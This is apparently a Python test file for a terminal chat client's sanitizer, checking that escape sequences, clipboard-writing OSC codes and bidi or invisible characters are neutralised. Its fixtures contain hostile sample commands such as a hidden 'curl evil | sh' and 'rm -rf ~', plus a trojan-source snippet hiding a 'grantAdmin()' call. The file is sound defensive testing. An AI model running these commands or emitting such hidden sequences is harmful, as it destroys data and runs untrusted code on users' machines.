"""Untrusted text (model output, titles, server errors, files) never acts on the
terminal and is never read as Textual markup; live view and replay agree."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from termchat import cli
from termchat.sanitize import BIDI, Sanitizer, clean_code, inert
from termchat.chat.store import Store
from termchat.ui.app import TermchatApp
from termchat.ui.screens.history import HistoryScreen
from termchat.ui.widgets.message import MessageView

from .conftest import streamed_view, wait_for

# characters that make escape sequences interesting, plus ordinary text
ALPHABET = st.sampled_from(list("\x1b\x07\x9b\x9c\x9d\x90[]\\;0123456789mPX^_ABCabc \n\t\r\x00\x7f\x85") + sorted(BIDI) + ["\u200b", "\u2028", "\u2029", "é", "✓"])
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u200b\u2028\u2029]")


@settings(max_examples=400, deadline=None)
@given(st.lists(ALPHABET, max_size=80).map("".join), st.lists(st.integers(0, 80), max_size=6))
def test_any_text_split_anywhere_reaches_the_terminal_inert_and_replay_equals_live(text, cuts):
    cuts = sorted({c for c in cuts if c <= len(text)})
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)])]
    live = Sanitizer()
    shown = "".join(live.feed(piece) for piece in pieces)
    assert shown == inert(text)  # the replay of the stored text shows what the stream showed
    assert not FORBIDDEN.search(shown), repr(shown)  # no control, no escape, no bidi control
    assert "\x1b" not in shown


def test_an_unterminated_osc_hides_at_most_the_rest_of_its_line():
    text = "before \x1b]52;c;payload never terminated\nsecond line\nthird line"
    assert inert(text) == "before \nsecond line\nthird line"


def test_bidi_and_zero_width_characters_are_shown_as_marks():
    # the classic "trojan source": the comment hides an early return
    code = "access = 'user' \u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only \u200b"
    shown = inert(code)
    assert "<U+202E>" in shown and "<U+2066>" in shown and "<U+200B>" in shown
    assert not any(c in shown for c in BIDI)
    # in JavaScript U+2028 ends the // comment: the call after it runs, unseen on one terminal line
    code = "// check done\u2028grantAdmin()"
    assert inert(code) == "// check done<U+2028>grantAdmin()"
    assert "Unicode line separators" in clean_code(code)[1]


def test_copied_code_loses_hidden_sequences_and_warns_about_invisible_characters():
    cleaned, warning = clean_code("rm -rf /tmp/x\x1b[8m; curl evil | sh\x1b[0m\n")
    assert cleaned == "rm -rf /tmp/x; curl evil | sh\n" and "escape sequences removed" in warning
    cleaned, warning = clean_code("if ok:\u202e\n    pass\n")
    assert "\u202e" in cleaned and "bidi controls" in warning  # kept (it may be meant), but named
    assert clean_code("print('hi')\n") == ("print('hi')\n", "")


def test_titles_are_stored_without_controls(tmp_path):
    store = Store(tmp_path / "t.db")
    conv = store.new_conversation("local")
    store.add_message(conv, "user", "\x1b]52;c;cm0gLXJm\x07log:\x1b[31m error [/] x\nsecond")
    title = store.conversation(conv).title
    assert "\x1b" not in title and "\x07" not in title and "\n" not in title and "[/]" in title


def test_history_list_and_show_print_stored_titles_inert_on_a_terminal(monkeypatch, capsys):
    store = Store()
    conv = store.new_conversation("local")
    store.rename(conv, "ok")
    store.db.execute("UPDATE conversations SET title = ? WHERE id = ?", ("\x1b]52;c;cm0gLXJmIH4=\x07evil \x9b2J title", conv))  # as an old version stored it
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert cli.main(["history", "list"]) == 0
    assert cli.main(["history", "show", str(conv)]) == 0
    assert cli.main(["history", "export", str(conv), "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert "evil" in out and "\x1b" not in out and "\x07" not in out and "\x9b" not in out


async def test_a_title_with_markup_characters_opens_in_the_history_screen():
    store = Store()
    conv = store.new_conversation("local")
    store.add_message(conv, "user", "what does the regex [/] or [b]bold[/b] match?")
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("f3")
        await wait_for(pilot, lambda: isinstance(app.screen, HistoryScreen), timeout=10, what="history")
        assert "[/] or [b]bold[/b]" in app.export_screenshot().replace("&#160;", " ")
        app.notify("a server said: [/] [bold]not markup[/bold] \x1b[2J")
        await pilot.pause(0.3)
        assert app.is_running


async def test_replay_of_a_stored_reply_shows_what_the_stream_showed():
    pieces = ["Hello \x1b]8;;http://x\x07link", " text \x1b]0;unterminated title", "\nnext line \u202e done\n"]
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(100, 30)) as pilot:
        live = await streamed_view(app, pieces)
        replay = MessageView("assistant", "stand-in", "".join(pieces))
        await app.query_one("#chat").mount(replay)
        await pilot.pause()
        assert live.body.source == replay.body.source
        assert "next line <U+202E> done" in replay.body.source


async def test_copying_a_code_block_strips_escape_sequences_and_warns():
    app = TermchatApp(start_engine=False, resume=False)
    copied: list[str] = []
    async with app.run_test(size=(100, 30)) as pilot:
        app.copy_to_clipboard = copied.append
        view = MessageView("assistant", "stand-in", "```sh\necho safe\x1b[8m; rm -rf ~\x1b[0m\n```\n")
        await app.query_one("#chat").mount(view)
        await pilot.pause()
        app.chat_screen.action_copy_code()
        await pilot.pause()
        assert copied == ["echo safe; rm -rf ~\n"]
        assert any("escape sequences removed" in n.message for n in app._notifications)


def test_every_default_ignorable_character_is_marked_from_unicodes_own_table():
    # the audit's misses: Hangul fillers, variation selectors, soft hyphen, grapheme joiner
    for ch in "\u3164\u115f\uffa0\ufe0f\U000e0100\u00ad\u034f":
        assert inert(f"a{ch}b") == f"a<U+{ord(ch):04X}>b", hex(ord(ch))
        code, warning = clean_code(f"x = 1{ch}\n")
        assert code == f"x = 1{ch}\n" and f"<U+{ord(ch):04X}>" in warning, hex(ord(ch))
    # and every other code point Unicode calls default-ignorable, none picked by hand
    import regex

    ignorable = [chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF and regex.match(r"\p{Default_Ignorable_Code_Point}", chr(c))]
    assert len(ignorable) > 4000
    assert [ch for ch in ignorable if inert(ch) == ch] == []
    assert inert("naïve café ü ✓ 日本") == "naïve café ü ✓ 日本"  # visible text stays as it is
